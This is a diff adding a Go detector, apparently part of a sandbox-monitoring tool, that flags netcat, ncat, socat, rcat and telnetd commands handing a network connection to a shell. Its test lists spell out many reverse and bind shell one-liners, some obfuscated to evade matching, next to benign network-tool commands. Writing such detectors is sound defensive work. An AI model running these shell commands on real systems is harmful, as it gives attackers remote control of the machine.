@@ -1,0 +1,115 @@
+package detect
+
+import (
+	"strings"
+
+	"github.com/code-on-incus/coi/cmd/coi-watch/internal/command"
+	"github.com/code-on-incus/coi/cmd/coi-watch/internal/program"
+	"github.com/code-on-incus/coi/cmd/coi-watch/internal/track"
+	"github.com/code-on-incus/coi/pkg/coi"
+)
+
+var shellRelayTool = Detector{
+	ID: "shell.relay-tool", Level: coi.Critical, Wants: execs,
+	Title:  "connection handed to a program",
+	Why:    "a network tool was told to start a program and connect it to the network",
+	Detect: onCommands(relayTool),
+	Fire: append(lines(coi.Critical,
+		"nc -l -p 12345 -e /bin/sh",
+		"nc.traditional 198.51.100.7 4242 -e /bin/bash",
+		"ncat --ssl -c bash 198.51.100.7 4242",
+		"ncat --sh-exec '/bin/sh -i' 198.51.100.7 9",
+		"busybox nc 198.51.100.7 4242 -e sh",
+		"socat TCP:198.51.100.7:4242 EXEC:'bash -li',pty,stderr,setsid,sigint,sane",
+		"socat TCP-LISTEN:4444,reuseaddr,fork SYSTEM:/bin/sh",
+		"socat openssl-connect:evil.test:443,verify=0 exec:/bin/bash,pty",
+		"cp $(command -v nc) /tmp/.q; /tmp/.q -e /bin/sh 198.51.100.7 4242",
+		"ln -s /usr/bin/socat /tmp/zz; /tmp/zz exec:sh tcp:198.51.100.7:1",
+		"/lib64/ld-linux-x86-64.so.2 /usr/bin/ncat 198.51.100.7 1 -e /bin/sh",
+		"/tmp/unknown -e /bin/sh 198.51.100.7 4242",
+		"n'c' -\"e\" /bin/s\\h 198.51.100.7 4242",
+		"rcat connect -s bash 198.51.100.7 55600",
+	), lines(coi.High,
+		"nc -lvp 9000 -e /bin/sh 127.0.0.1",
+		"socat TCP-LISTEN:9000,fork EXEC:/opt/app/handler",
+		"busybox telnetd -l /bin/sh -p 9999",
+	)...),
+	Quiet: lines("",
+		"nc -z localhost 8080", "nc -vz -w 5 host 1-100", "socat - TCP:host:80", "socat TCP-LISTEN:80,fork TCP:b:80",
+		"echo -e 'GET / HTTP/1.1\\n\\n' | nc host 80", "nc -k -U -l /tmp/n.sock", "nc -c example.test 443",
+		"ncat -l 8080 --keep-open", "while ! nc -z db 5432; do sleep 1; done", "socat UNIX-LISTEN:/tmp/a,fork TCP:127.0.0.1:80",
+		"apt-get install -y netcat-traditional socat", "nc -e", "rg 'nc -e /bin/sh' .",
+	),
+}
+
+func relayTool(s *command.Simple, _ track.View) *Finding {
+	p := s.Parsed()
+	switch s.Name {
+	case "nc", "ncat", "cryptcat", "pwncat", "sbd":
+		for _, v := range p.Values("e", "exec", "sh-exec", "c") {
+			if f := handed(s, v, p.Has("l", "listen"), len(p.Rest)); f != nil {
+				return f
+			}
+		}
+		if v := p.Values("lua-exec"); len(v) > 0 {
+			return say(s, coi.High, "connection handed to a Lua program")
+		}
+	case "socat":
+		return socatHand(s)
+	case "rcat":
+		if v := program.Parse(program.Spec{Short: "sp"}, s.Argv, false).Values("s"); len(v) > 0 && program.ShellPath(v[0]) {
+			return say(s, coi.Critical, "connection handed to "+v[0]).to(outHost(s))
+		}
+	case "telnetd", "tcpserver", "in.telnetd", "udpsvd", "tcpsvd", "xinetd":
+		for _, a := range s.Argv[1:] {
+			if program.ShellPath(a) {
+				return say(s, coi.High, "shell offered on a port by "+s.Name)
+			}
+		}
+	}
+	return nil
+}
+
+// handed judges the program that nc -e starts.
+func handed(s *command.Simple, v string, listen bool, operands int) *Finding {
+	w := strings.Fields(v)
+	if len(w) == 0 || operands == 0 && !listen {
+		return nil
+	}
+	shell := program.ShellPath(v) || program.ClassOf(w[0]) == program.Interpreter
+	if !shell && !strings.Contains(w[0], "/") {
+		return nil // -c of another nc: TLS, and this is the host
+	}
+	level := coi.Critical
+	if !shell || loopbackOnly(s) {
+		level = coi.High
+	}
+	return say(s, level, "connection handed to "+w[0]).to(outHost(s))
+}
+
+func socatHand(s *command.Simple) *Finding {
+	prog, net, local := "", false, false
+	for _, a := range s.Argv[1:] {
+		k, v, ok := strings.Cut(a, ":")
+		if !ok {
+			continue
+		}
+		switch k = strings.ToLower(k); {
+		case k == "exec" || k == "system" || k == "shell":
+			prog = strings.Trim(strings.SplitN(v, ",", 2)[0], `"' `)
+		case hasPrefixAny(k, "tcp", "udp", "openssl", "ssl", "sctp", "vsock", "dtls", "proxy", "socks"):
+			net = true
+			h, _, _ := strings.Cut(v, ":")
+			local = command.Loopback(h) && !strings.Contains(k, "listen") || strings.Contains(v, "bind=127.")
+		}
+	}
+	w := strings.Fields(prog)
+	if len(w) == 0 || !net {
+		return nil
+	}
+	level := coi.Critical
+	if !program.ShellPath(prog) && program.ClassOf(w[0]) != program.Interpreter || local {
+		level = coi.High
+	}
+	return say(s, level, "connection handed to "+w[0]).to(outHost(s))
+}
